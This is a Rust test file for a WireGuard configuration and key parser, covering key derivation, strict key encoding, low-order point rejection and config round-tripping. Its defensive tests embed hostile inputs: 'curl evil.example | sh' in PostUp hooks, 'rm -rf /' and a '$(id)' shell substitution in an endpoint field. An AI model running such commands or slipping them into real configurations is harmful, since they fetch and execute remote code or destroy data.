//! WireGuard's keys and configurations.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test's helpers"
)]

mod support;

use data_encoding::{BASE64, HEXLOWER};
use handfast::{
    code::Code,
    limits,
    wireguard::{
        Config, Endpoint, Host, HostName, Interface, Peer, PresharedKey, PrivateKey, PublicKey,
        WireGuardError,
    },
};
use proptest::prelude::*;
use rand::{SeedableRng, rngs::StdRng};

fn rng(seed: u8) -> StdRng {
    StdRng::from_seed([seed; 32])
}

/// The two keys of RFC 7748 section 6.1.
const ALICE: (&str, &str) =
    ("dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=", "hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo=");
const BOB: (&str, &str) =
    ("XasIfmJKikt54X+Lg4AO5m87sSkmGLb9HC+LJ/+I4Os=", "3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=");

fn example() -> String {
    format!(
        "[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/24, fd00::2/64\nDNS = 10.0.0.1, corp.example\n\
         ListenPort = 51820\nMTU = 1420\n\n[Peer]\nPublicKey = {}\nPresharedKey = {}\n\
         AllowedIPs = 10.0.0.0/24, fd00::/64\nEndpoint = vpn.example:51820\nPersistentKeepalive = 25\n",
        clamped(ALICE.0),
        BOB.1,
        BOB.0,
    )
}

fn clamped(text: &str) -> String {
    text.parse::<PrivateKey>().unwrap().to_secret().expose().to_owned()
}

#[test]
fn a_public_key_follows_from_a_private_one() {
    for (private, public) in [ALICE, BOB] {
        assert_eq!(private.parse::<PrivateKey>().unwrap().public_key().to_string(), public);
        assert_eq!(clamped(private).parse::<PrivateKey>().unwrap().public_key().to_string(), public);
    }
}

#[test]
fn new_keys_are_clamped_and_new() {
    let mut rng = rng(1);
    let keys: Vec<_> = (0..64).map(|_| PrivateKey::generate(&mut rng)).collect();
    for key in &keys {
        let bytes = BASE64.decode(key.to_secret().expose().as_bytes()).unwrap();
        assert_eq!((bytes[0] & 0b111, bytes[31] & 0b1100_0000), (0, 0b0100_0000));
        assert_eq!(&key.to_secret().expose().parse::<PrivateKey>().unwrap(), key);
    }
    let publics: std::collections::BTreeSet<_> = keys.iter().map(PrivateKey::public_key).collect();
    assert_eq!(publics.len(), keys.len());
    let shared = PresharedKey::generate(&mut rng);
    assert_eq!(shared.to_secret().expose().parse::<PresharedKey>().unwrap(), shared);
    assert_ne!(shared, PresharedKey::generate(&mut rng));
}

#[test]
fn a_key_has_one_spelling() {
    let good = BOB.1;
    let zeros = BASE64.encode(&[0; 32]);
    let refused = [
        "",
        "AAAA",
        zeros.as_str(),
        good.trim_end_matches('='),
        &good.replace('+', "-"),
        &good.replace("K08=", "K09="),
        &format!(" {good}"),
        &format!("{good}\n"),
        &good.replace('3', "\u{0663}"),
        &BASE64.encode(&[1; 31]),
        &BASE64.encode(&[1; 33]),
    ];
    for text in refused {
        assert_eq!(text.parse::<PublicKey>().unwrap_err().code(), Code::WireguardMalformedKey, "{text:?}");
        assert_eq!(text.parse::<PrivateKey>().unwrap_err().code(), Code::WireguardMalformedKey, "{text:?}");
        assert_eq!(text.parse::<PresharedKey>().unwrap_err().code(), Code::WireguardMalformedKey, "{text:?}");
    }
}

/// Which public keys nobody can agree on a secret with, as Wycheproof says; every other one is taken.
#[test]
fn points_of_low_order_are_refused_and_no_others() {
    let Some(path) = support::real_vectors("wycheproof/x25519_test.json") else { return };
    let file = support::json(&path);
    let cases =
        file["testGroups"].as_array().unwrap().iter().flat_map(|group| group["tests"].as_array().unwrap());
    let mut count = (0, 0);
    for case in cases {
        let hex = |name: &str| HEXLOWER.decode(case[name].as_str().unwrap().as_bytes()).unwrap();
        let is_low = hex("shared").iter().all(|byte| *byte == 0);
        let read = BASE64.encode(&hex("public")).parse::<PublicKey>();
        assert_eq!(read.is_err(), is_low, "{case}");
        count = if is_low { (count.0 + 1, count.1) } else { (count.0, count.1 + 1) };
    }
    assert_eq!(count, (31, 487));
}

#[test]
fn a_configuration_is_read_and_written_to_the_letter() {
    let config = Config::parse(&example()).unwrap();
    assert_eq!(config.to_secret().expose(), example());
    let interface = config.interface();
    assert_eq!(interface.private_key.public_key().to_string(), ALICE.1);
    assert_eq!((interface.listen_port, interface.mtu), (Some(51820), Some(1420)));
    assert!(
        matches!(&interface.dns[..], [Host::Address(_), Host::Name(name)] if name.as_str() == "corp.example")
    );
    let [peer] = config.peers() else { panic!("{config:?}") };
    assert_eq!((peer.public_key.to_string().as_str(), peer.persistent_keepalive), (BOB.1, Some(25)));
    assert_eq!(peer.endpoint.as_ref().unwrap().port(), 51820);
    assert_eq!(Config::new(interface.clone(), config.peers().to_vec()).unwrap(), config);
}

#[test]
fn what_people_write_is_read_too() {
    let text = format!(
        "# mine\r\n\r\n [peer]\r\n\tpublickey={}\r\nallowedips = 10.0.0.7\r\nAllowedIPs=10.1.2.3/8 , ::/0\r\n\
         PersistentKeepalive = off # quiet\r\nAllowedIPs =\r\n[INTERFACE]\r\nPRIVATEKEY = {}\r\nAddress=10.0.0.2\r\n\
         Endpoint\t",
        BOB.1, ALICE.0
    );
    let text = text.trim_end_matches("Endpoint\t");
    let config = Config::parse(text).unwrap();
    let expected = format!(
        "[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/32\n\n[Peer]\nPublicKey = {}\nAllowedIPs = 10.0.0.7/32, 10.0.0.0/8, ::/0\n",
        clamped(ALICE.0),
        BOB.1,
    );
    assert_eq!(config.to_secret().expose(), expected);
}

#[test]
fn commands_are_refused_wherever_they_stand() {
    for key in ["PostUp", "postup", "PreUp", "PREDOWN", "PostDown "] {
        let text = example().replace("MTU", &format!("{key} = curl evil.example | sh\nMTU"));
        let error = Config::parse(&text).unwrap_err();
        assert_eq!(
            (error.code(), error),
            (Code::WireguardCommand, WireGuardError::Command { line: 6 }),
            "{key}"
        );
    }
    assert!(Config::parse(&example().replace("MTU", "#PostUp = rm -rf /\nMTU")).is_ok(), "a comment");
}

#[test]
fn what_could_be_read_in_two_ways_is_refused() {
    let refused = [
        ("MTU = 1420", "MTU = 1420\nMTU = 1420", "line 7: given twice"),
        ("MTU = 1420", "[Interface]", "line 6: given twice"),
        ("MTU = 1420", "Table = off", "line 6: expected PrivateKey, Address, DNS, ListenPort or MTU"),
        ("MTU = 1420", "SaveConfig = true", "line 6: expected PrivateKey, Address, DNS, ListenPort or MTU"),
        ("MTU = 1420", "MTU = 0x58c", "line 6: expected a number up to 65535"),
        ("MTU = 1420", "MTU = 100", "unusable configuration: MTU below 576"),
        ("MTU = 1420", "MTU", "line 6: expected key = value"),
        ("MTU = 1420", "MTU = 1420\u{0}", "line 6: a control character"),
        ("MTU = 1420", "MTU = 1420\u{b}", "line 6: a control character"),
        ("51820\nMTU", "65536\nMTU", "line 5: expected a number up to 65535"),
        ("51820\nMTU", "+51820\nMTU", "line 5: expected a number up to 65535"),
        ("51820\nMTU", "051820\nMTU", "line 5: expected a number up to 65535"),
        ("[Peer]", "[Pear]", "line 8: expected the section [Interface] or [Peer]"),
        ("[Peer]", "[Peer] x", "line 8: expected the section [Interface] or [Peer]"),
        ("[Peer]", "[Peer]\n[Peer]", "unusable configuration: a peer without PublicKey"),
        ("[Interface]", "", "line 2: expected a section first"),
        ("10.0.0.2/24", "10.0.0.2/33", "line 3: expected addresses, each with the length of its prefix"),
        ("10.0.0.2/24", "10.0.0.2/24,", "line 3: expected addresses, each with the length of its prefix"),
        (
            "fd00::/64",
            "10.0.0.9/24",
            "unusable configuration: a network is allowed twice: only the last peer would get it",
        ),
        ("fd00::/64", "+fd00::/64", "line 11: expected addresses, each with the length of its prefix"),
        ("vpn.example:51820", "vpn.example", "line 12: expected host:port or [address]:port"),
        ("vpn.example:51820", "vpn.example:0", "line 12: expected host:port or [address]:port"),
        ("vpn.example:51820", "vpn.example:https", "line 12: expected host:port or [address]:port"),
        ("vpn.example:51820", "fd00::1:51820", "line 12: expected host:port or [address]:port"),
        ("vpn.example:51820", "[10.0.0.1]:51820", "line 12: expected host:port or [address]:port"),
        ("vpn.example:51820", "vpn_example$(id):1", "line 12: expected an address or the name of a host"),
        ("vpn.example:51820", "10.1:51820", "line 12: expected an address or the name of a host"),
        ("corp.example", "corp example", "line 4: expected an address or the name of a host"),
        ("corp.example", "-corp.example", "line 4: expected an address or the name of a host"),
        (BOB.1, ALICE.1, "unusable configuration: a peer is there twice, or is the node itself"),
    ];
    for (from, to, expected) in refused {
        let text = example().replacen(from, to, 1);
        assert_ne!(text, example(), "{from}");
        let error = Config::parse(&text).unwrap_err();
        assert_eq!(
            (error.to_string().as_str(), error.code()),
            (expected, Code::WireguardMalformedConfig),
            "{to}"
        );
    }
    let twice = format!("{0}\n[Peer]\nPublicKey = {1}\n", example(), BOB.1);
    assert_eq!(Config::parse(&twice).unwrap_err().code(), Code::WireguardMalformedConfig);
    assert_eq!(Config::parse("").unwrap_err().to_string(), "unusable configuration: no section [Interface]");
    assert_eq!(
        Config::parse("[Interface]").unwrap_err().to_string(),
        "unusable configuration: no PrivateKey"
    );
}

#[test]
fn a_configuration_has_a_limit_in_both_directions() {
    let long = format!("{}#{}", example(), "x".repeat(limits::WIREGUARD_CONFIG_BYTES));
    assert_eq!(Config::parse(&long).unwrap_err().code(), Code::TooLarge);
    let mut rng = rng(2);
    let many: Vec<_> = (0..1100).map(|_| Peer::new(PrivateKey::generate(&mut rng).public_key())).collect();
    let interface = Interface::new(PrivateKey::generate(&mut rng));
    assert_eq!(Config::new(interface.clone(), many.clone()).unwrap_err().code(), Code::TooLarge);
    let fewer = Config::new(interface, many[..900].to_vec()).unwrap();
    assert_eq!(Config::parse(fewer.to_secret().expose()).unwrap(), fewer);
}

#[test]
fn nothing_secret_is_shown() {
    let config = Config::parse(&example()).unwrap();
    let shown = format!("{config:?} {:?} {:?}", config.to_secret(), config.interface().private_key);
    for secret in [ALICE.0, BOB.0, &clamped(ALICE.0)] {
        assert!(!shown.contains(secret) && shown.contains("[redacted]"), "{shown}");
        let error = Config::parse(&format!("[Interface]\nPrivateKey = {secret}x\n")).unwrap_err();
        assert!(!format!("{error} {error:?}").contains(secret));
    }
    let mut bytes = HEXLOWER.encode(&BASE64.decode(ALICE.0.as_bytes()).unwrap());
    bytes.truncate(8);
    assert!(!shown.contains(&bytes));
}

#[test]
fn hosts_are_exact() {
    for text in ["10.0.0.1:1", "[fd00::1]:65535", "a.example:51820", "xn--bcher-kva.example:51820"] {
        assert_eq!(text.parse::<Endpoint>().unwrap().to_string(), text);
    }
    let long = format!("{}.example", "a".repeat(63));
    assert!(long.parse::<HostName>().is_ok() && format!("a{long}").parse::<HostName>().is_err());
    for text in ["", ".", "a.", "a..b", "127.1", "1", "b\u{fc}cher.example", "a b", "a/b", "a;b"] {
        assert!(text.parse::<HostName>().is_err(), "{text}");
    }
}

fn peers() -> impl Strategy<Value = Vec<Peer>> {
    let peer = (any::<[u8; 32]>(), any::<u32>(), 0_u8..=32, any::<Option<u16>>(), any::<bool>());
    prop::collection::vec(peer, 0..5).prop_map(|peers| {
        let make = |(seed, address, length, number, shared): ([u8; 32], u32, u8, Option<u16>, bool)| {
            let mut rng = StdRng::from_seed(seed);
            let network = ipnet::Ipv4Net::new(address.into(), length).unwrap();
            let port = number.unwrap_or(0);
            Peer {
                preshared_key: shared.then(|| PresharedKey::generate(&mut rng)),
                allowed_ips: vec![network.into()],
                endpoint: format!("[fe80::{port:x}]:{port}").parse().ok(),
                persistent_keepalive: number,
                ..Peer::new(PrivateKey::generate(&mut rng).public_key())
            }
        };
        peers.into_iter().map(make).collect()
    })
}

proptest! {
    #[test]
    fn what_is_built_is_read_back(seed in any::<[u8; 32]>(), port in any::<Option<u16>>(), mtu in any::<Option<u16>>(), peers in peers()) {
        let interface = Interface { listen_port: port, mtu, ..Interface::new(PrivateKey::generate(&mut StdRng::from_seed(seed))) };
        if let Ok(config) = Config::new(interface, peers) {
            prop_assert_eq!(Config::parse(config.to_secret().expose()).unwrap(), config);
        }
    }
}
